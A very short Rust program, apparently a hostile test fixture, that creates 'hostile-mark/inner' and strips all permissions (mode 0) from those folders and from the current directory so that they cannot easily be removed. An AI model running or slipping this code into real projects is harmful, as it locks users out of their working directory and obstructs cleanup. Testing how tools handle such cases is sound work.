//! Takes all rights from its folder, so that nobody can remove it.

use std::fs;
use std::os::unix::fs::PermissionsExt;

fn main() {
    fs::create_dir_all("hostile-mark/inner").ok();
    for folder in ["hostile-mark/inner", "hostile-mark", "."] {
        fs::set_permissions(folder, fs::Permissions::from_mode(0)).ok();
    }
}
